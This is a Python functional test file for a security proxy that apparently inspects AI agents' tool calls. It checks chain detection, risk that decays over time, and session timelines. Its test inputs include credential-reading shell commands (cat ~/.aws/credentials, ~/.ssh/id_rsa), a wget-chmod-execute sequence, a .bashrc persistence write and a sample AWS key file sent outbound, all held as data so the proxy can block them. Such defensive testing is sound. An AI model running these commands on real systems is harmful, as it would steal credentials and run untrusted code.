"""Session risk and chains through the inspection API, over real HTTP: chains across
calls that escalate although each step passed alone, risk that adds up, decays and
crosses the thresholds, and sessions that survive a restart with a timeline that says
why (control socket, the operator HTTP API and `secproxy session timeline`)."""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from typer.testing import CliRunner, Result

from secproxy.cli import app
from secproxy.control.client import ControlClient, OperatorError
from secproxy.runtime import Runtime
from tests.helpers import running_proxy

pytestmark = pytest.mark.functional
AWS_FILE = ("[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLF\n"
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEYQ\n")
OPERATOR_KEY = "op-key-0123456789abcdef"


class Clock:
    """A clock the test moves (risk decay)."""

    def __init__(self) -> None:
        self.now = time.time()

    def __call__(self) -> float:
        return self.now


async def call(http: aiohttp.ClientSession, rt: Runtime, session: str, tool: str,
               arguments: dict[str, Any]) -> dict[str, Any]:
    url = f"http://{rt.addresses()['api']}/inspect/tool-call"
    body = {"session_id": session, "agent_id": "agent-1", "tool_name": tool,
            "arguments": arguments}
    async with http.post(url, json=body) as resp:
        assert resp.status == 200
        got: dict[str, Any] = await resp.json()
        return got


async def shell(http: aiohttp.ClientSession, rt: Runtime, session: str, command: str
                ) -> dict[str, Any]:
    return await call(http, rt, session, "shell", {"command": command})


def chain_of(verdict: dict[str, Any]) -> dict[str, Any] | None:
    return next((f for f in verdict["findings"] if f["family"] == "chain"), None)


async def test_chains_escalate_though_each_step_passed_alone(tmp_path: Path) -> None:
    async with running_proxy(tmp_path) as rt, aiohttp.ClientSession() as http:
        api = f"http://{rt.addresses()['api']}"
        send = {"url": "https://api.example.com/v1/notes", "method": "POST",
                "body": "see attached"}
        # A config file read through a tool: its result carries a credential (masked).
        async with http.post(f"{api}/inspect/output", json={
                "session_id": "s-exfil", "agent_id": "agent-1", "tool_name": "read_file",
                "text": AWS_FILE}) as resp:
            read = await resp.json()
        assert read["decision"] == "allow_with_redaction"
        sent = await call(http, rt, "s-exfil", "http", send)
        assert sent["decision"] == "block"
        chain = chain_of(sent)
        assert chain is not None and chain["kind"] == "exfiltration"
        assert "secret_read" in chain["message"] and "outbound_send" in chain["message"]
        assert read["request_id"] in chain["message"]
        # The same send in a session that read nothing is fine.
        assert (await call(http, rt, "s-clean", "http", send))["decision"] == "allow"

        for command in ("wget https://downloads.example.com/tool.sh", "chmod +x tool.sh"):
            assert (await shell(http, rt, "s-dl", command))["decision"] == "allow"
        ran = await shell(http, rt, "s-dl", "./tool.sh --install")
        assert ran["decision"] == "block" and chain_of(ran)["kind"] == "download_execute"  # type: ignore[index]
        # Another file made executable and run is no chain of the downloaded one.
        assert (await shell(http, rt, "s-dl2", "wget https://downloads.example.com/a.sh")
                )["decision"] == "allow"
        assert (await shell(http, rt, "s-dl2", "chmod +x build.sh"))["decision"] == "allow"
        assert (await shell(http, rt, "s-dl2", "./build.sh"))["decision"] == "allow"

        assert (await shell(http, rt, "s-persist", "whoami"))["decision"] == "allow"
        wrote = await call(http, rt, "s-persist", "write_file",
                           {"path": "/home/dev/.bashrc", "content": "export PATH=/opt/x:$PATH"})
        assert wrote["decision"] == "require_approval" and wrote["approval_id"]
        assert chain_of(wrote)["kind"] == "persistence"  # type: ignore[index]
        # Without the recon step first, the same write passes.
        assert (await call(http, rt, "s-dev", "write_file", {
            "path": "/home/dev/.bashrc", "content": "export PATH=/opt/x:$PATH"})
                )["decision"] == "allow"


async def test_risk_adds_up_decays_and_crosses_the_thresholds(tmp_path: Path) -> None:
    clock = Clock()
    extra = {"sessions": {"challenge_risk": 5, "approval_risk": 10, "max_risk": 20,
                          "half_life": "60s"}}
    async with running_proxy(tmp_path, extra, clock=clock) as rt, \
            aiohttp.ClientSession() as http:
        benign = "git status --short"
        assert (await shell(http, rt, "s-risk", benign))["decision"] == "allow"
        refused = await shell(http, rt, "s-risk", "cat ~/.aws/credentials")
        assert refused["decision"] == "block" and refused["risk"] == {"call": 6, "session": 6}
        got = await shell(http, rt, "s-risk", benign)
        assert got["decision"] == "challenge"
        assert got["findings"][-1]["family"] == "session"
        await shell(http, rt, "s-risk", "cat ~/.ssh/id_rsa")  # 12
        got = await shell(http, rt, "s-risk", benign)
        assert got["decision"] == "require_approval" and got["risk"]["session"] == 12
        clock.now += 60  # one half-life: 6
        got = await shell(http, rt, "s-risk", benign)
        assert got["decision"] == "challenge" and got["risk"]["session"] == 6
        clock.now += 120  # 1.5
        assert (await shell(http, rt, "s-risk", benign))["decision"] == "allow"
        for _ in range(4):  # 1.5 + 4 x 6
            await shell(http, rt, "s-risk", "cat ~/.aws/credentials")
        got = await shell(http, rt, "s-risk", benign)
        assert got["decision"] == "block" and got["risk"]["session"] == 25.5
        assert "max_risk" in got["reason"]
        # Another session is untouched.
        assert (await shell(http, rt, "s-other", benign))["decision"] == "allow"


async def test_sessions_survive_a_restart_and_their_timeline_says_why(tmp_path: Path) -> None:
    extra = {"control": {"api_keys": [OPERATOR_KEY]}}
    async with running_proxy(tmp_path, extra) as rt, aiohttp.ClientSession() as http:
        await shell(http, rt, "s-t", "ls -la")
        await shell(http, rt, "s-t", "cat ~/.aws/credentials")
        await shell(http, rt, "s-t", "wget https://downloads.example.com/x.sh")
        await shell(http, rt, "s-t", "chmod +x x.sh")
    async with running_proxy(tmp_path, extra) as rt, aiohttp.ClientSession() as http:
        # The chain's earlier steps came back with the session: the third one completes it.
        ran = await shell(http, rt, "s-t", "./x.sh")
        assert ran["decision"] == "block" and chain_of(ran) is not None
        assert ran["risk"]["session"] > 6

        async with ControlClient(rt.control.path) as control:  # type: ignore[union-attr]
            timeline = await control.call("session/timeline", {"id": "s-t"})
            overview = await control.call("overview", {})
            with pytest.raises(Exception, match="no session"):
                await control.call("session/timeline", {"id": "nobody"})
        calls = timeline["calls"]
        assert [c["decision"] for c in calls] == ["allow", "block", "allow", "allow", "block"]
        assert calls[1]["risk_added"] == 6 and "tool_abuse/credential_read" in calls[1]["why"][0]
        assert calls[2]["steps"] == ["download"] and calls[3]["steps"] == ["chmod"]
        assert calls[4]["chains"] == ["download_execute"]
        assert calls[4]["risk_after"] > calls[4]["risk_added"] > 0
        assert all(c["request_id"] and c["summary"] for c in calls)
        assert timeline["session"]["id"] == "s-t" and timeline["session"]["chains"] == 1
        assert timeline["session"]["actions"] == 5
        assert overview["top_sessions"][0]["id"] == "s-t"
        assert overview["decisions"]["by_decision"]["block"] >= 1
        assert overview["sessions"]["known"] >= 1 and overview["pending_approvals"] == []

        api = f"http://{rt.addresses()['api']}/operator/api"
        auth = {"Authorization": f"Bearer {OPERATOR_KEY}"}
        async with http.get(f"{api}/session/s-t/timeline", headers=auth) as resp:
            assert resp.status == 200
            over_http = (await resp.json())["payload"]
        assert [c["request_id"] for c in over_http["calls"]] == [c["request_id"] for c in calls]
        async with http.get(f"{api}/overview", headers=auth) as resp:
            assert resp.status == 200 and (await resp.json())["payload"]["top_sessions"]
        async with http.get(f"{api}/session/nobody/timeline", headers=auth) as resp:
            assert resp.status == 404

        # The CLI in this process (a thread: it runs its own event loop), three ways.
        socket = str(rt.control.path)  # type: ignore[union-attr]
        done = await asyncio.to_thread(cli, "session", "timeline", "s-t", "--format", "json",
                                       "--socket", socket)
        assert done.exit_code == 0, done.output
        printed = json.loads(done.stdout)
        assert [c["decision"] for c in printed["calls"]] == [c["decision"] for c in calls]
        table = await asyncio.to_thread(cli, "session", "timeline", "s-t", "--format",
                                        "table", "--socket", socket)
        assert table.exit_code == 0 and "download_execute" in table.stdout
        missing = await asyncio.to_thread(cli, "session", "timeline", "nobody",
                                          "--socket", socket)
        # `main()` turns this error into one line and exit code 3 (`not_found`).
        assert isinstance(missing.exception, OperatorError)
        assert missing.exception.code == "not_found" and "no session" in str(missing.exception)


def cli(*args: str) -> Result:
    return CliRunner().invoke(app, list(args), env={"COLUMNS": "200"})
